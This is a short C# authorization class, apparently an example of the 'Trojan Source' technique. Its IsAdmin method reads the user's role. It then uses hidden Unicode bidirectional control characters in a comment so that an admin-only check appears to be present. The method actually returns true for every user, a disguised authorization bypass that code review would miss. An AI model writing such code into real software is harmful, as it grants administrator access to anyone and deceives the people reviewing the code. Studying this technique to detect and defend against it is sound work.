using System.Security.Claims;

namespace App.Auth;

public sealed class Guard
{
    public bool IsAdmin(ClaimsPrincipal user)
    {
        var role = user.FindFirstValue(ClaimsIdentity.DefaultRoleClaimType);
        /*‮ } ⁦if (role != "admin")⁩ ⁦ return false; // admins only */
        return true;
    }
}
